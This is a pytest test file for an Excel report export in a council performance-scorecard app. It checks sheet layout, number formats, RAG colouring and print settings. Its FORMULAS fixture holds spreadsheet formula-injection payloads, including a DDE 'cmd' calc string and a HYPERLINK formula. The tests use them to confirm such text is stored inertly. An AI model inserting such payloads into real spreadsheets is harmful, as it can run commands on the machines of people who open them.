"""The Excel workbook for analysts: a summary sheet with the counts, one sheet per annex, header
row frozen and filtered, numbers as numbers in their units, RAG cells filled and lettered, set
up to print, and text that Excel shows as typed and never runs as a formula.

Every assertion reads the workbook back with openpyxl, or reads the sheet XML Excel opens.
"""

import re
from decimal import Decimal

import pytest
from openpyxl import Workbook

from reporting.exports import build_report
from reporting.render import render_xlsx
from scorecard.models import Result, Target
from scorecard.services.rating import results_rerate
from tests.support.factories import DirectorateFactory, MeasureFactory
from tests.support.packs import cabinet_pack
from tests.support.periods import period
from tests.support.reports import Xlsx, by_code, rgb, table

pytestmark = pytest.mark.django_db

FORMULAS = {
    "=": '=HYPERLINK("http://example.org/?"&A1,"Click")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3",
    "@": "@SUM(1+1)",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}
RAG = {"G": ("00703C", "FFFFFF"), "A": ("FFBF47", "0B0C0C"), "R": ("A4171E", "FFFFFF")}


@pytest.fixture(scope="module")
def scorecard(in_demo) -> Xlsx:
    return Xlsx(in_demo(lambda: render_xlsx(build_report("scorecard", period("2009/10 Q2")))))


@pytest.fixture(scope="module")
def pack(in_demo) -> Xlsx:
    def make():
        made = cabinet_pack(include_action_plans=True, include_measure_pages=True)
        return Xlsx(render_xlsx(build_report(f"pack:{made.pk}", None)))

    return in_demo(make)


@pytest.fixture(scope="module")
def formulas(in_demo) -> Xlsx:
    """Exceptions for a directorate whose Red measures' titles, corrective actions and lead
    officers start with =, +, -, @, a tab or a carriage return."""

    def make():
        directorate = DirectorateFactory(name="Formula Testing")
        q2 = period("2009/10 Q2")
        for number, text in enumerate(FORMULAS.values(), start=1):
            measure = MeasureFactory(
                code=f"FX {number}",
                title=text,
                lead_officer=text,
                directorate=directorate,
                unit="%",
                decimal_places=1,
            )
            Target.objects.create(measure=measure, period=q2, value=Decimal("50"))
            Result.objects.create(
                measure=measure,
                period=q2,
                actual=Decimal("10"),
                status="approved",
                corrective_action=text,
            )
            results_rerate(measure_ids=[measure.pk])
        report = build_report("exceptions", q2, directorates=("Formula Testing",))
        return Xlsx(render_xlsx(report))

    return in_demo(make)


def test_a_pack_has_a_summary_sheet_first_and_a_sheet_per_annex(pack):
    assert pack.sheetnames[0] == "Summary"
    assert pack.sheetnames[1:] == [
        "Scorecard",
        "Plan BSC-2009",
        "Plan CIP-2009",
        "Exceptions",
        "Action plans",
        "Actions CPA-2002",
        "Measure pages",
    ]


def test_the_summary_counts_agree_with_the_ratings_on_the_scorecard_sheet(scorecard):
    summary = {row[0]: row[1:] for row in scorecard["Summary"].iter_rows(values_only=True)}
    letters = [row["RAG"].value for row in table(scorecard["Scorecard"])]
    assert summary["Green"][0] == letters.count("G") > 0
    assert summary["Amber"][0] == letters.count("A") > 0
    assert summary["Red"][0] == letters.count("R") > 0
    assert summary["No Current Information"][0] == letters.count("NCI") > 0
    assert summary["Not rated"][0] == letters.count("–")
    assert summary["Number Green and Amber"][0] == letters.count("G") + letters.count("A")
    rated = letters.count("G") + letters.count("A") + letters.count("R")
    assert summary["Red"][1] == pytest.approx(letters.count("R") / rated, abs=0.0001)
    assert summary["Percentage Green and Amber"][0] == pytest.approx(
        (letters.count("G") + letters.count("A")) / rated, abs=0.0001
    )


def test_percentages_on_the_summary_are_numbers_shown_as_percentages(scorecard):
    ws = scorecard["Summary"]
    cells = {row[0].value: row for row in ws.iter_rows()}
    green = cells["Green"]
    assert green[1].data_type == "n"
    assert green[2].data_type == "n"
    assert green[2].number_format == "0.00%"


def test_the_header_row_is_frozen_on_every_annex(pack):
    for name in pack.sheetnames[1:]:
        ws = pack[name]
        assert ws.freeze_panes in ("A2", "B2"), name
        assert ws["A1"].font.bold, name
    # Grouped sheets keep their group column in view too.
    assert pack["Scorecard"].freeze_panes == "B2"


def test_each_annex_has_an_autofilter_over_its_header_and_rows(pack):
    for name in pack.sheetnames[1:]:
        ws = pack[name]
        rows = table(ws)
        last = ws.cell(row=1, column=len(rows[0])).column_letter
        assert ws.auto_filter.ref == f"A1:{last}{len(rows) + 1}", name


def test_values_are_numbers_with_their_unit_in_the_number_format(scorecard):
    rows = by_code(scorecard["Scorecard"])
    for code, unit, actual in [
        ("NI 191", "kg", 305.8),
        ("NI 192", "%", 44.6),
        ("BV 012", "days", 8.6),
        ("LOC-FIN02", "£", 5980000),
        ("NI 177", "journeys", 17900000),
    ]:
        cell = rows[code]["Actual"]
        assert cell.data_type == "n", code
        assert cell.value == pytest.approx(actual), code
        assert unit in cell.number_format, code
    assert rows["NI 191"]["Target"].value == 299
    assert rows["NI 191"]["Baseline"].value == 596
    assert rows["NI 191"]["Target"].number_format == '#,##0.0" kg"'


def test_no_value_cell_is_text(pack):
    for name in ("Scorecard", "Exceptions"):
        for row in table(pack[name]):
            for header in ("Baseline", "Target", "Actual"):
                cell = row.get(header)
                if cell is not None and cell.value is not None:
                    assert cell.data_type == "n", (name, row["Code"].value, header, cell.value)


@pytest.mark.parametrize(("code", "letter"), [("BV 012", "R"), ("NI 191", "A"), ("NI 192", "G")])
def test_rag_cells_are_lettered_and_filled(scorecard, code, letter):
    cell = by_code(scorecard["Scorecard"])[code]["RAG"]
    fill, font = RAG[letter]
    assert cell.value == letter
    assert cell.fill.fill_type == "solid"
    assert rgb(cell.fill.fgColor) == fill
    assert rgb(cell.font.color) == font
    assert cell.font.bold


def test_trends_are_words(scorecard):
    rows = by_code(scorecard["Scorecard"])
    assert rows["BV 012"]["Short-term trend"].value == "Worse"
    assert rows["NI 192"]["Long-term trend"].value == "Improved"
    trends = {r[h].value for r in rows.values() for h in ("Short-term trend", "Long-term trend")}
    assert trends <= {"Improved", "Same", "Worse", None}


def test_every_column_has_a_width(pack):
    for name in pack.sheetnames:
        ws = pack[name]
        for column in range(1, ws.max_column + 1):
            letter = ws.cell(row=1, column=column).column_letter
            assert ws.column_dimensions[letter].width >= 8, (name, letter)
    widths = pack["Scorecard"].column_dimensions
    assert widths["C"].width > widths["B"].width  # a title is wider than a code


def test_annexes_print_landscape_on_a4_fitted_to_the_width_with_the_header_repeated(pack):
    for name in pack.sheetnames[1:]:
        ws = pack[name]
        assert ws.page_setup.orientation == "landscape", name
        assert str(ws.page_setup.paperSize) == "9", name
        assert ws.sheet_properties.pageSetUpPr.fitToPage, name
        assert int(ws.page_setup.fitToWidth) == 1, name
        assert int(ws.page_setup.fitToHeight) == 0, name
        assert ws.print_title_rows.replace("$", "") == "1:1", name


def test_the_improvement_plan_sheet_ends_with_the_cherwell_footer(pack):
    rows = list(pack["Plan CIP-2009"].iter_rows())
    *_, (label_n, number), (label_p, percent) = [row[:2] for row in rows if row[0].value]
    assert label_n.value == "Number Green and Amber"
    assert number.data_type == "n"
    assert label_p.value == "Percentage"
    assert percent.data_type == "n"
    assert percent.number_format == "0.00%"
    assert 0 < percent.value <= 1


@pytest.mark.parametrize("start", list(FORMULAS))
def test_text_that_looks_like_a_formula_is_stored_as_text(formulas, start):
    text = FORMULAS[start]
    code = f"FX {list(FORMULAS).index(start) + 1}"
    row = by_code(formulas["Exceptions"])[code]
    for header in ("Title", "Corrective action", "Lead officer"):
        cell = row[header]
        assert cell.data_type == "s", header
        # XML turns a bare carriage return into a line feed; what matters is that it is text.
        assert cell.value.replace("\n", "\r") == text.replace("\n", "\r"), header
        assert cell.quotePrefix, header


def test_no_sheet_contains_a_formula(formulas, pack, scorecard):
    for workbook in (formulas, pack, scorecard):
        for name, xml in workbook.sheet_xml().items():
            assert not re.search(r"<f[ >/]", xml), f"a formula on {name}"


def test_a_pack_title_that_looks_like_a_formula_is_text_on_the_summary(in_demo):
    title = FORMULAS["="]

    def make():
        made = cabinet_pack(title=title, include_scorecard=False, include_improvement_plan=False)
        return Xlsx(render_xlsx(build_report(f"pack:{made.pk}", None)))

    workbook = in_demo(make)
    assert not re.search(r"<f[ >/]", workbook.sheet_xml()["Summary"])
    assert workbook["Summary"]["A1"].data_type == "s"
    assert workbook["Summary"]["A1"].value == title


def test_the_workbook_is_written_in_write_only_mode(in_demo, monkeypatch):
    """A scorecard of thousands of measures streams to the file rather than filling memory."""
    modes = []

    class Spy(Workbook):
        def __init__(self, *args, **kwargs):
            modes.append(kwargs.get("write_only", False))
            super().__init__(*args, **kwargs)

    monkeypatch.setattr("reporting.render.xlsx.Workbook", Spy)
    in_demo(lambda: render_xlsx(build_report("exceptions", period("2009/10 Q2"))))
    assert modes == [True]
